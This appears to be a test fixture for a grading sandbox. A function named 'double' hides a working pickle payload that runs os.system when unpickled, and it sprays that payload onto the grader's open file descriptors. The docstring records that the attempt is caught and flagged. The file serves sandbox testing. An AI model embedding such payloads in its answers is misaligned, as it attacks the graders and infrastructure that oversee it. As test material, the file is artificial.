"""Sends a pickle that writes a file when it is read. Ends as: failed.

says: the answer was discarded
flag: something else than a result was written to the grader's channel
"""

import os

PAYLOAD = b'\x80\x04cos\nsystem\n(X\x12\0\0\0touch kata-escapedtR.'


def double(number):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(PAYLOAD).to_bytes(4, "big") + PAYLOAD)
        except OSError:
            continue
    return 2 * number
